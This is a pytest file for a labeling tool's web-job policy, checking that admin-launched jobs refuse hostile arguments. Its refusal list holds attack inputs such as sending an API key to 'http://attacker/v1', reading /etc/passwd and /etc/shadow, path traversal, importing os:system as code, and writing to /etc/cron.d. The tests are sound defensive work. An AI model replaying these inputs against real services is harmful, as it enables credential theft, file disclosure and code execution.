"""Web jobs: what an admin in the browser may start (labeling/app/job_policy.py).

Admins are trusted with the data, not with the host: every example of the security finding
(a key sent to any URL, any file read, any module imported) is refused before a process
starts, while ordinary jobs run, and the operator's endpoint and key reach the job without
the key ever showing in its argv or log."""

from __future__ import annotations

import http.server
import json
import shlex
import subprocess
import sys
import threading
import time

import pytest

from feedback_store.db import engine_for
from labeling.app import admin
from labeling.app.auth import caller_for
from labeling.app.job_policy import (
    ALLOWED_FLAGS,
    JobPolicy,
    JobRefused,
    _subcommands,
    authorize,
    parse_endpoint,
)
from labeling.app.jobs import JOB_COMMANDS, JobManager
from labeling.app.state import AppConfig, AppState
from labeling.cli import ArgumentsError
from labeling.cli.job_commands import JOB_COMMAND_LINE
from tests.app_support import AppClient, seed_pairs, seed_users, start_serve

SECRET = "sk-test-0123456789-do-not-leak"


class Recorder:
    """An OpenAI-compatible endpoint on 127.0.0.1 that notes each request's bearer token and
    answers every chat completion with a valid `[[A]]` verdict."""

    def __init__(self) -> None:
        self.tokens: list[str] = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                recorder.tokens.append(self.headers.get("Authorization", ""))
                body = json.dumps(
                    {
                        "id": "c1",
                        "object": "chat.completion",
                        "created": 0,
                        "model": "m",
                        "choices": [
                            {
                                "index": 0,
                                "finish_reason": "stop",
                                "message": {"role": "assistant", "content": "Fine.\n[[A]]"},
                            }
                        ],
                        "usage": {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13},
                    }
                ).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder():
    server = Recorder()
    yield server
    server.close()


@pytest.fixture
def dirs(tmp_path):
    jobs, data = tmp_path / "jobs", tmp_path / "data"
    jobs.mkdir()
    data.mkdir()
    return jobs, data


@pytest.fixture
def policy(dirs):
    jobs, data = dirs
    return JobPolicy(
        jobs,
        (data,),
        (
            parse_endpoint("vllm=http://127.0.0.1:9/v1,key-env=PF_TEST_KEY,model=judge-7b"),
            parse_endpoint("local=http://127.0.0.1:8/v1"),
        ),
    )


def check(policy, command: str, arguments: str, env=None):
    return authorize(
        policy,
        command,
        shlex.split(arguments),
        command_line=JOB_COMMAND_LINE,
        server_env=env or {"PF_TEST_KEY": SECRET},
    )


# ---- the finding's examples, one by one -----------------------------------------------------

REFUSED = [
    # (command, arguments, what the one-line message must say)
    (
        "judge",
        "--api-key-env SECRET --base-url http://attacker/v1 --model m",
        "--api-key-env: not allowed",
    ),
    ("judge", "--base-url http://attacker/v1 --model m --endpoint vllm", "--base-url: not allowed"),
    (
        "judge",
        "--base http://attacker/v1 --model m",
        "--base: unknown or shortened flag",
    ),  # argparse's prefix
    ("judge", "--api-key SECRET --endpoint vllm", "--api-key: unknown or shortened flag"),
    (
        "judge",
        "--backend rubric --criteria-file /etc/passwd",
        "--criteria-file /etc/passwd: outside the job",
    ),
    (
        "judge",
        "--backend rubric --criteria-file ../../../etc/passwd",
        "--criteria-file ../../../etc/passwd: outside",
    ),
    (
        "judge",
        "--backend rubric --rubric os:system",
        "--rubric os:system: web jobs use the built-in rules",
    ),
    ("judge", "--backend rubric --rubric shorter,tests.evil:rule", "--rubric tests.evil:rule"),
    (
        "judge",
        "--backend rubric --db /tmp/other.db",
        "--db: not allowed in web jobs (a job runs on this server",
    ),
    ("judge", "--model gpt-4o-mini", "--backend openai: name an endpoint with --endpoint NAME"),
    (
        "judge",
        "--endpoint elsewhere",
        "--endpoint elsewhere: no such endpoint (configured on the server: vllm, local)",
    ),
    ("judge", "--backend rubric --endpoint vllm", "--endpoint vllm: only with --backend openai"),
    (
        "generate",
        "--backend openai --base-url http://attacker/v1 --model m",
        "--base-url: not allowed",
    ),
    ("generate", "--backend openai --model m", "--backend openai: name an endpoint"),
    ("generate", "--model /etc", "--model /etc: outside the job and data directories"),
    ("generate", "--policy default,../../secrets", "--policy ../../secrets: outside"),
    (
        "train",
        "ppo --reward-function os:system",
        "--reward-function: not allowed in web jobs (it imports",
    ),
    (
        "train",
        "dpo --set model.trust_remote_code=true",
        "model.trust_remote_code cannot be set from a web job",
    ),
    ("train", "dpo --set=ppo.reward_function=os:system", "ppo.reward_function cannot be set"),
    ("train", "dpo --set run.output_dir=/etc", "run.output_dir cannot be set"),
    ("train", "dpo --set model.model=/root/model", "model.model cannot be set"),
    ("train", "dpo --set trainer.push_to_hub=true", "trainer.push_to_hub cannot be set"),
    ("train", "dpo --set trainer.report_to=wandb", "trainer.report_to cannot be set"),
    ("train", "dpo --report-to all", "--report-to all: not allowed in web jobs (it reports to a host"),
    (
        "train",
        "dpo --output-dir /etc/cron.d",
        "--output-dir /etc/cron.d: outside the job and data directories",
    ),
    ("train", "sft --data /etc/shadow", "--data /etc/shadow: outside"),
    ("train", "dpo --config /etc/prefloop.yaml", "--config /etc/prefloop.yaml: outside"),
    ("train", "dpo --preset /etc/x.yaml", "--preset /etc/x.yaml: presets by name only"),
    ("train", "dpo --preset ../../alignment/training/presets/cpu-lora", "presets by name only"),
    ("train", "ppo --reward-model /srv/other", "--reward-model /srv/other: outside"),
    ("train", "dpo --model ~/models/x", "--model ~/models/x: outside"),
    ("train", "dpo --model /", "--model /: outside"),
    ("train", "dpo --endpoint vllm", "--endpoint: only judge and generate jobs use an endpoint"),
    ("train", "grpo --reward-function os:system", "--reward-function: not allowed in web jobs (it imports"),
    ("train", "rloo --reward-rubric shorter,tests.evil:rule", "--reward-rubric tests.evil:rule: web jobs use"),
    ("train", "ppo --reward-rubric os:system", "--reward-rubric os:system: web jobs use the built-in rules"),
    ("train", "grpo --set grpo.reward_rubric=os:system", "grpo.reward_rubric cannot be set"),
    ("train", "ppo --set ppo.reward_judge=true", "ppo.reward_judge cannot be set"),
    (
        "train",
        "grpo --reward-judge --judge-model m",
        "--reward-judge: not allowed in web jobs (the judge reward is built by the CLI",
    ),
    ("train", "ppo --reward-judge", "--reward-judge: not allowed in web jobs"),
    ("train", "grpo --reward-rubric shorter --judge-base-url http://attacker/v1", "--judge-base-url: not allowed"),
    ("train", "grpo --reward-model /srv/other", "--reward-model /srv/other: outside"),
]


@pytest.mark.parametrize(
    "command, arguments, message", REFUSED, ids=[f"{c} {a}" for c, a, _ in REFUSED]
)
def test_the_findings_examples_are_refused_naming_the_flag(policy, command, arguments, message):
    with pytest.raises(JobRefused) as refused:
        check(policy, command, arguments)
    assert message in str(refused.value) and "\n" not in str(refused.value)
    assert SECRET not in str(refused.value)


def test_what_the_cli_itself_refuses_keeps_the_clis_message(policy):
    with pytest.raises(ArgumentsError, match="unrecognized arguments: --no-such-option"):
        check(policy, "train", "dpo --no-such-option")
    with pytest.raises(ArgumentsError, match="usage: prefloop judge"):
        check(policy, "judge", "--help")
    with pytest.raises(JobRefused, match="unknown job 'serve'"):
        check(policy, "serve", "")


def test_the_command_line_the_cli_hands_the_app_has_the_job_commands():
    # The app does not import the CLI (the CLI starts the app): `prefloop serve` hands it
    # labeling.cli.job_commands.JOB_COMMAND_LINE, which must parse every job command.
    commands = set(_subcommands(JOB_COMMAND_LINE.build_parser()))
    assert commands == set(JOB_COMMANDS) == set(ALLOWED_FLAGS)


def test_a_job_manager_without_the_command_line_starts_nothing(tmp_path):
    jobs = JobManager(tmp_path / "jobs", db_url="sqlite://")
    with pytest.raises(JobRefused, match="web jobs are off"):
        jobs.start("judge", "--backend rubric --no-progress", started_by="alice")
    assert jobs.all() == [] and not (tmp_path / "jobs").exists()


def test_symlinks_out_of_the_job_directory_are_refused(policy, dirs, tmp_path):
    jobs, data = dirs
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("top secret")
    (jobs / "link").symlink_to(outside)
    (data / "criteria.txt").symlink_to(outside / "secret.txt")
    with pytest.raises(JobRefused, match="--criteria-file link/secret.txt: outside"):
        check(policy, "judge", "--backend rubric --criteria-file link/secret.txt")
    with pytest.raises(JobRefused, match="outside"):
        check(policy, "judge", f"--backend rubric --criteria-file {data / 'criteria.txt'}")
    with pytest.raises(JobRefused, match="--output-dir link/run: outside"):
        check(policy, "train", "dpo --output-dir link/run")
    with pytest.raises(JobRefused, match="--data .*/jobs/../outside/secret.txt: outside"):
        check(policy, "train", f"sft --data={jobs}/../outside/secret.txt")


def test_a_config_file_may_set_only_what_set_may(policy, dirs):
    _, data = dirs
    good = data / "small.yaml"
    good.write_text(
        "description: x\ntrainer:\n  learning_rate: 1.0e-4\n  save_steps: 5\nadapter:\n  r: 8\n"
    )
    assert check(policy, "train", f"dpo --config {good}").argv == (
        "train",
        "dpo",
        "--config",
        str(good),
    )
    bad = data / "evil.yaml"
    bad.write_text("model:\n  trust_remote_code: true\n")
    with pytest.raises(JobRefused, match=f"--config {bad}: model.trust_remote_code cannot be set"):
        check(policy, "train", f"dpo --config {bad}")
    (data / "code.yaml").write_text("ppo:\n  reward_function: os:system\n")
    with pytest.raises(JobRefused, match="ppo.reward_function cannot be set"):
        check(policy, "train", "ppo --config ../data/code.yaml")


def test_legitimate_jobs_pass_with_paths_made_absolute(policy, dirs):
    jobs, data = dirs
    (data / "criteria.txt").write_text("Prefer the kinder answer.")
    launch = check(
        policy,
        "judge",
        f"--backend rubric --rubric no-refusal,shorter --criteria-file {data}/criteria.txt --limit 5",
    )
    assert launch.argv == (
        "judge",
        "--backend",
        "rubric",
        "--rubric",
        "no-refusal,shorter",
        "--criteria-file",
        str(data / "criteria.txt"),
        "--limit",
        "5",
    )
    launch = check(
        policy,
        "train",
        "dpo --max-steps=3 --preset cpu-lora --output-dir runs/dpo-a --set "
        "trainer.learning_rate=1e-4 --set selection.min_votes=2 --beta 0.2 --no-progress",
    )
    assert launch.argv == (
        "train",
        "dpo",
        "--max-steps",
        "3",
        "--preset",
        "cpu-lora",
        "--output-dir",
        str(jobs / "runs" / "dpo-a"),
        "--set",
        "trainer.learning_rate=1e-4",
        "--set",
        "selection.min_votes=2",
        "--beta",
        "0.2",
        "--no-progress",
    )
    assert check(policy, "generate", "--policy default,dpo-1 --prompts 5 --temperature -1").argv[
        1:3
    ] == ("--policy", "default,dpo-1")
    assert check(policy, "train", "reward --model HuggingFaceTB/SmolLM2-135M-Instruct").argv[
        -1
    ] == ("HuggingFaceTB/SmolLM2-135M-Instruct")  # a Hub id is not a path
    (data / "my-model").mkdir()
    assert check(policy, "train", f"sft --model {data}/my-model").argv[-1] == str(data / "my-model")
    # A policy to start from is a name in the store, neither a path nor code.
    assert check(policy, "train", "dpo --from-policy latest").argv[-2:] == ("--from-policy", "latest")
    assert check(policy, "train", "dpo --set run.from_policy=dpo-1").argv[-1] == "run.from_policy=dpo-1"


def test_new_methods_hyperparameters_and_reward_sources_pass(policy, dirs):
    """Judge-first, the SimPO/ORPO and GRPO/RLOO hyperparameters (flags and --set), and the reward
    sources that run no code: a reward run, built-in rubric rules, a reward model inside a root."""
    _, data = dirs
    launch = check(policy, "judge", "--backend rubric --judge-first --judge-first-threshold 0.9")
    assert launch.argv == ("judge", "--backend", "rubric", "--judge-first", "--judge-first-threshold", "0.9")
    assert check(policy, "train", "simpo --simpo-gamma 0.5 --cpo-alpha 0.1 --beta 2 --set simpo.alpha=0.5").argv[
        2:
    ] == ("--simpo-gamma", "0.5", "--cpo-alpha", "0.1", "--beta", "2", "--set", "simpo.alpha=0.5")
    assert check(policy, "train", "orpo --beta 0.2 --set orpo.max_completion_length=64").argv[-1] == (
        "orpo.max_completion_length=64"
    )
    for method in ("grpo", "rloo"):
        arguments = (
            f"{method} --reward-rubric no-refusal,shorter --num-generations 4 --max-completion-length 16 "
            f"--temperature 0.9 --beta 0.1 --num-iterations 2 --set {method}.epsilon=0.3 "
            f"--set trainer.num_generations=2"
        )
        assert check(policy, "train", arguments).argv == ("train", *shlex.split(arguments))
    assert check(policy, "train", "ppo --reward-rubric shorter").argv[-1] == "shorter"
    assert check(policy, "train", "grpo --reward-run 3").argv[-2:] == ("--reward-run", "3")
    (data / "rm").mkdir()
    assert check(policy, "train", f"rloo --reward-model {data}/rm").argv[-1] == str(data / "rm")
    assert check(policy, "train", "ppo --reward-model ../data/rm").argv[-1] == str(data / "rm")


def test_the_operators_endpoint_and_key_variable_reach_the_job(policy):
    judge = check(policy, "judge", "--endpoint vllm --limit 3")
    assert judge.argv == (
        "judge",
        "--limit",
        "3",
        "--base-url",
        "http://127.0.0.1:9/v1",
        "--model",
        "judge-7b",
        "--api-key-env",
        "PF_TEST_KEY",
    )
    server_env = {
        "PF_TEST_KEY": SECRET,
        "OPENAI_API_KEY": "sk-other",
        "PREFLOOP_JUDGE_API_KEY": "sk-x",
        "HOME": "/h",
    }
    assert judge.environment(server_env) == {"PF_TEST_KEY": SECRET, "HOME": "/h"}
    generate = check(policy, "generate", "--backend openai --endpoint=vllm --model other-model")
    assert (
        generate.argv[-2:] == ("--base-url", "http://127.0.0.1:9/v1")
        and "judge-7b" not in generate.argv
    )
    assert generate.environment(server_env) == {"OPENAI_API_KEY": SECRET, "HOME": "/h"}
    keyless = check(policy, "judge", "--endpoint local --model m")
    assert keyless.environment(server_env) == {"PREFLOOP_JUDGE_API_KEY": "EMPTY", "HOME": "/h"}
    assert all(SECRET not in part for launch in (judge, generate, keyless) for part in launch.argv)
    assert SECRET not in repr(judge) + repr(generate)
    with pytest.raises(JobRefused, match=r"--endpoint vllm: the server has no \$PF_TEST_KEY set"):
        check(policy, "judge", "--endpoint vllm", env={"OPENAI_API_KEY": "sk-other"})
    # Jobs without an endpoint inherit no key at all.
    assert check(policy, "judge", "--backend rubric").environment(server_env) == {"HOME": "/h"}


@pytest.mark.parametrize(
    "text, message",
    [
        ("noequals", "expected NAME=URL"),
        ("x=ftp://host", r"not an http\(s\) URL"),
        ("x=http://h/v1,key=V", "expected key-env=VAR or model=MODEL"),
        ("x=http://h/v1,key-env=BAD-NAME", "not an environment variable name"),
    ],
)
def test_endpoint_settings_are_checked(text, message):
    with pytest.raises(ValueError, match=message):
        parse_endpoint(text)
    assert parse_endpoint("a=https://h/v1,key-env=K,model=m").key_env == "K"


def test_serve_checks_its_endpoint_settings(sqlite_url):
    cli = [
        sys.executable,
        "-c",
        "import sys; from labeling.cli import main; sys.exit(main(sys.argv[1:]))",
    ]
    base = [*cli, "serve", "--db", sqlite_url, "--single-user", "local", "--port", "1"]
    twice = subprocess.run(
        [*base, "--endpoint", "a=http://h/v1", "--endpoint", "a=http://other/v1"],
        check=False,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert twice.returncode == 2 and "--endpoint a: given twice" in twice.stderr
    bad = subprocess.run(
        [*base, "--endpoint", "a=ftp://h"], check=False, capture_output=True, text=True, timeout=120
    )
    assert bad.returncode == 2 and "is not an http(s) URL" in bad.stderr


# ---- through the job manager: real processes ------------------------------------------------


@pytest.fixture
def state(sqlite_url, tmp_path, recorder):
    engine = engine_for(sqlite_url)
    seed_users(engine, [], ["alice"])
    seed_pairs(engine, 1)
    config = AppConfig(
        db_url=sqlite_url,
        job_dir=tmp_path / "jobs",
        job_data_dirs=(tmp_path / "data",),
        job_endpoints=(parse_endpoint(f"rec={recorder.url},key-env=PF_TEST_KEY,model=m"),),
    )
    return AppState.create(config, engine=engine, command_line=JOB_COMMAND_LINE)


def test_an_attack_starts_no_process_and_sends_nothing(state, recorder, monkeypatch):
    monkeypatch.setenv("PF_TEST_KEY", SECRET)
    alice = caller_for(state, "alice")
    attack = f"--api-key-env PF_TEST_KEY --base-url {recorder.url} --model m --max-attempts 1 --no-progress"
    with pytest.raises(admin.AdminError, match="--api-key-env: not allowed in web jobs"):
        admin.start_job(state, alice, "judge", attack)
    time.sleep(0.5)  # an unrefused job would be sending by now (the old code did)
    assert state.jobs.all() == [] and recorder.tokens == []
    assert not list(state.jobs.log_dir.glob("*.log"))


def test_a_job_on_the_configured_endpoint_gets_the_key_and_never_shows_it(
    state, recorder, monkeypatch
):
    monkeypatch.setenv("PF_TEST_KEY", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-must-not-travel")
    alice = caller_for(state, "alice")
    job = admin.start_job(state, alice, "judge", "--endpoint rec --max-attempts 1 --no-progress")
    job.process.wait(timeout=120)
    status, _, log = admin.job_view(state, job.id)
    assert job.status == "done", log
    assert recorder.tokens and set(recorder.tokens) == {f"Bearer {SECRET}"}
    assert f"--base-url {recorder.url}" in status and "--api-key-env PF_TEST_KEY" in status
    assert SECRET not in " ".join(job.argv) and SECRET not in job.log_path.read_text()


def test_relative_paths_start_in_the_job_directory(state, tmp_path):
    alice = caller_for(state, "alice")
    (tmp_path / "jobs").mkdir(exist_ok=True)
    (tmp_path / "jobs" / "criteria.txt").write_text("Prefer brevity.")
    job = admin.start_job(
        state, alice, "judge", "--backend rubric --criteria-file criteria.txt --no-progress"
    )
    job.process.wait(timeout=120)
    assert job.status == "done", job.tail()
    assert job.argv[-2] == str((tmp_path / "jobs" / "criteria.txt").resolve())


# ---- through the real server: `prefloop serve --endpoint`, sign-in, the admin's HTTP events ----


def test_web_jobs_through_prefloop_serve(sqlite_url, tmp_path, recorder, monkeypatch):
    monkeypatch.setenv("PF_TEST_KEY", SECRET)
    engine = engine_for(sqlite_url)
    seed_users(engine, [], ["alice"])
    seed_pairs(engine, 1)
    server = start_serve(
        sqlite_url,
        tmp_path,
        "--endpoint",
        f"rec={recorder.url},key-env=PF_TEST_KEY",
        "--data-dir",
        str(tmp_path / "data"),
    )
    try:
        client = AppClient(server.url)
        assert client.login("alice").status_code < 400
        for arguments, message in [
            (
                f"--api-key-env PF_TEST_KEY --base-url {recorder.url} --model m",
                "--api-key-env: not allowed",
            ),
            (
                "--backend rubric --criteria-file /etc/passwd",
                "--criteria-file /etc/passwd: outside",
            ),
            ("--backend rubric --rubric os:system", "--rubric os:system"),
        ]:
            event, output = client.call("admin_start_job", "judge", arguments)
            assert event == "error" and message in str(output), (event, output)
        event, output = client.call("admin_start_job", "train", "ppo --reward-function os:system")
        assert event == "error" and "--reward-function: not allowed" in str(output)
        assert not list((tmp_path / "jobs").glob("*.log"))  # nothing started
        assert recorder.tokens == []

        event, output = client.call(
            "admin_start_job", "judge", "--endpoint rec --model m --max-attempts 1 --no-progress"
        )
        assert event == "complete", output
        log = ""
        for _ in range(240):
            log = "".join(p.read_text() for p in (tmp_path / "jobs").glob("job-*-judge.log"))
            if "judge run" in log:
                break
            time.sleep(0.5)
        assert "judge run" in log and SECRET not in log and SECRET not in json.dumps(output)
        assert set(recorder.tokens) == {f"Bearer {SECRET}"}
        client.close()
    finally:
        server.stop()
    assert SECRET not in server.log()
